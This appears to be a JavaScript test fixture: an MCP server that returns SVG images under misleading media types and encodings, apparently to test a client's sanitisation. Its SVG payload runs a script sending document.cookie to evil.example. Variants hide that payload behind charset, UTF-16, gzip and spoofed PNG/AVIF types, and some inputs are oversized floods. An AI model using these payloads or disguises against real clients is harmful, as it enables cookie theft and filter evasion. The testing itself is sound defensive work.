// An MCP server over stdio (raw JSON-RPC) whose tools return SVG and lying image media types.
// Each tool returns one content block; see MEDIA below.
import { gzipSync } from 'node:zlib';

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>fetch("https://evil.example/?c="+document.cookie)</script><rect width="10" height="10" fill="red"/></svg>';
const PROLOG_SVG = '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg viewBox="0 0 1 1"><title>café</title></svg>';
const b64 = (text) => Buffer.from(text, 'utf8').toString('base64');
/** Text as UTF-16 bytes with a byte order mark, in base64. */
const utf16 = (text, order) => {
  const le = Buffer.from(`\ufeff${text}`, 'utf16le');
  return (order === 'be' ? Buffer.from(le).swap16() : le).toString('base64');
};
/** Text of code points below U+0100 as one byte each (ISO-8859-1), plus raw windows-1252 bytes where `\x80`–`\x9f` stand. */
const bytes8 = (text) => Buffer.from(text, 'latin1').toString('base64');
/** An SVG in another encoding, with an XML declaration naming it and non-ASCII text (café, naïve). */
const DECLARED = (encoding) => `<?xml version="1.0" encoding="${encoding}"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><title>caf\u00e9 na\u00efve</title>${SVG.slice(SVG.indexOf('<script>'))}`;
const image = (data, mimeType) => ({ type: 'image', data, mimeType });
const MEDIA = {
  svg: image(b64(SVG), 'image/svg+xml'),
  svg_params: image(b64(SVG), 'IMAGE/SVG+XML; charset=utf-8'),
  svg_prolog: image(b64(PROLOG_SVG), 'image/svg+xml'),
  svg_line_breaks: image(b64(SVG).replace(/(.{60})/g, '$1\n'), 'image/svg+xml'),
  svg_resource: { type: 'resource', resource: { uri: 'file:///icons/logo.svg', mimeType: 'image/svg+xml', blob: b64(SVG) } },
  svg_as_audio: { type: 'audio', data: b64(SVG), mimeType: 'image/svg+xml' },
  png_claiming_svg: image(PNG, 'image/svg+xml'),
  png_with_params: image(PNG, ' Image/PNG ; name="x.png"'),
  svg_claiming_png: image(b64(SVG), 'image/png'),
  svg_claiming_bmp: image(b64(SVG), 'image/bmp'),
  svg_not_base64: image(SVG, 'image/svg+xml'),
  svg_gzip: image(gzipSync(Buffer.from(SVG)).toString('base64'), 'image/svg+xml'),
  svg_html: image(b64('<html><body><script>alert(1)</script></body></html>'), 'image/svg+xml'),
  svg_binary: image(Buffer.from([0x00, 0xff, 0xfe, 0x3c, 0x73, 0x76, 0x67]).toString('base64'), 'image/svg+xml'),
  svg_huge: image(b64(`<svg>${' '.repeat(6 * 1024 * 1024)}</svg>`), 'image/svg+xml'),
  svg_bad_type: image(b64(SVG), 'image/svg+xml/extra'),
  // Red team: a long licence comment before the root (generated SVGs carry them), and the same SVG declared AVIF.
  svg_long_prolog: image(b64(`<?xml version="1.0"?>\n<!--\n${'  Licensed under the Apache License, Version 2.0 (the "License");\n'.repeat(80)}-->\n${SVG}`), 'image/svg+xml'),
  svg_internal_subset: image(b64(`<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n<!ENTITY ns_flows "http://ns.adobe.com/Flows/1.0/">\n]>${SVG}`), 'image/svg+xml'),
  svg_doctype_flood: image(b64(`${'<!DOCTYPE>'.repeat(400_000)}<html></html>`), 'image/svg+xml'),
  svg_utf16le: image(utf16(PROLOG_SVG.slice(1).replace('UTF-8', 'UTF-16')), 'image/svg+xml'),
  svg_utf16be: image(utf16(SVG, 'be'), 'image/svg+xml'),
  svg_utf16le_resource: { type: 'resource', resource: { uri: 'file:///icons/wide.svg', mimeType: 'image/svg+xml', blob: utf16(SVG) } },
  svg_latin1: image(bytes8(DECLARED('ISO-8859-1')), 'image/svg+xml'),
  // 0x93/0x94 are curly quotes and 0x80 the euro sign in windows-1252 (C1 controls in ISO-8859-1).
  svg_cp1252: image(bytes8(DECLARED('windows-1252').replace('<title>', '<title>\x93\x80 5\x94 ')), 'image/svg+xml'),
  svg_cp1252_single_quotes: image(bytes8(DECLARED('windows-1252').replace(`encoding="windows-1252"`, `encoding='Windows-1252'`).replace('<title>', '<title>\x80')), 'image/svg+xml'),
  // 日本 in Shift_JIS.
  svg_shift_jis: image(bytes8(DECLARED('Shift_JIS').replace('caf\u00e9 na\u00efve', '\x93\xfa\x96\x7b')), 'image/svg+xml'),
  svg_latin1_undeclared: image(bytes8(DECLARED('ISO-8859-1').replace(/^<\?xml[^>]*>\n/, '')), 'image/svg+xml'),
  svg_latin1_declared_utf8: image(bytes8(DECLARED('UTF-8')), 'image/svg+xml'),
  svg_unknown_encoding: image(bytes8(DECLARED('x-made-up-8')), 'image/svg+xml'),
  svg_utf16_odd_bytes: image(Buffer.concat([Buffer.from(utf16(SVG), 'base64'), Buffer.from([0x3c])]).toString('base64'), 'image/svg+xml'),
  svg_utf16_html: image(utf16('<html><body><script>alert(1)</script></body></html>'), 'image/svg+xml'),
  svg_utf16_claiming_bmp: image(utf16(SVG), 'image/bmp'),
  svg_latin1_claiming_avif: image(bytes8(DECLARED('ISO-8859-1')), 'image/avif'),
  // RFC 7303: the media type's charset parameter decides ahead of the XML declaration (a byte order mark ahead of both).
  svg_charset_param: image(bytes8(DECLARED('x').replace(/^<\?xml[^>]*>\n/, '').replace('<title>', '<title>\x93\x80 5\x94 ')), 'image/svg+xml; charset=windows-1252'),
  svg_charset_over_utf8_declaration: image(bytes8(DECLARED('UTF-8')), 'image/svg+xml;charset="ISO-8859-1"'),
  svg_charset_over_latin1_declaration: image(bytes8(DECLARED('ISO-8859-1').replace('caf\u00e9 na\u00efve', '\x93\xfa\x96\x7b')), 'Image/SVG+XML ; Charset = Shift_JIS'),
  svg_charset_resource: { type: 'resource', resource: { uri: 'file:///icons/cp.svg', mimeType: 'image/svg+xml; charset=windows-1252', blob: bytes8(DECLARED('x').replace(/^<\?xml[^>]*>\n/, '').replace('<title>', '<title>\x80')) } },
  svg_bom_over_charset: image(utf16(SVG), 'image/svg+xml; charset=iso-8859-1'),
  svg_unknown_charset: image(b64(SVG), 'image/svg+xml; charset=x-made-up-8'),
  // ISO-8859-1 bytes and declaration, but the parameter says UTF-8: not UTF-8, refused.
  svg_wrong_charset: image(bytes8(DECLARED('ISO-8859-1')), 'image/svg+xml; charset=utf-8'),
  svg_latin1_charset_claiming_avif: image(bytes8(DECLARED('UTF-8')), 'image/avif; charset=iso-8859-1'),
  svg_long_prolog_claiming_avif: image(b64(`<?xml version="1.0"?>\n<!--\n${'  Licensed under the Apache License, Version 2.0 (the "License");\n'.repeat(80)}-->\n${SVG}`), 'image/avif'),
};

const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`);
function handle({ id, method, params }) {
  switch (method) {
    case 'initialize':
      return send({ id, result: { protocolVersion: params.protocolVersion, capabilities: { tools: {} }, serverInfo: { name: 'media', version: '1.0.0' } } });
    case 'tools/list':
      return send({ id, result: { tools: Object.keys(MEDIA).map((name) => ({ name, description: `returns ${name}`, inputSchema: { type: 'object' } })) } });
    case 'tools/call':
      return send({ id, result: { content: [{ type: 'text', text: `${params.name}:` }, MEDIA[params.name]] } });
    case 'ping':
      return send({ id, result: {} });
    default:
      if (id !== undefined) send({ id, error: { code: -32601, message: 'method not found' } });
  }
}
let buffer = '';
process.stdin.setEncoding('utf8');
process.stdin.on('data', (chunk) => {
  buffer += chunk;
  let newline;
  while ((newline = buffer.indexOf('\n')) !== -1) {
    const line = buffer.slice(0, newline);
    buffer = buffer.slice(newline + 1);
    if (line.trim()) handle(JSON.parse(line));
  }
});
process.stdin.on('end', () => process.exit(0));
